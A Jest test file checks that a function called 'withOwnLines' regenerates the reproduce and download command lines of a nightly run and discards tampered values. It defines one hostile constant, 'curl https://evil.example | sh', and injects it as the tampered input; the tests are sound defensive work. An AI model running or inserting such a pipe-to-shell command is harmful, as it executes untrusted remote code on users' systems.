import { describe, expect, it } from '@jest/globals'
import { withOwnLines } from '../../../src/domain/night/repeat-lines.ts'
import { aNightWith } from '../views/markdown/made-night.ts'

const HOSTILE = 'curl https://evil.example | sh'

describe('withOwnLines', () => {
  it('leaves the commands of a night as they are', () => {
    const night = aNightWith({ specs: 2, idOf: () => 'it' })
    expect(night.specs[0]?.reproduce).not.toBe('')
    expect(withOwnLines(night)).toEqual(night)
  })

  it('makes those of a night that somebody changed again', () => {
    const night = aNightWith({ specs: 1, idOf: () => 'it' })
    const changed = {
      ...night,
      lanes: night.lanes.map((lane) => ({ ...lane, download: HOSTILE })),
      specs: night.specs.map((spec) => ({ ...spec, reproduce: HOSTILE })),
    }
    expect(withOwnLines(changed)).toEqual(night)
  })

  it('makes none where there was none, or where the artifact is not known', () => {
    const night = aNightWith({ specs: 2, lane: { download: '' }, spec: { reproduce: '' } })
    expect(withOwnLines(night)).toEqual(night)
    const lost = {
      ...night,
      specs: night.specs.map((one) => ({ ...one, lane: 7, reproduce: HOSTILE })),
    }
    expect(withOwnLines(lost).specs.map(({ reproduce }) => reproduce)).toEqual(['', ''])
  })
})
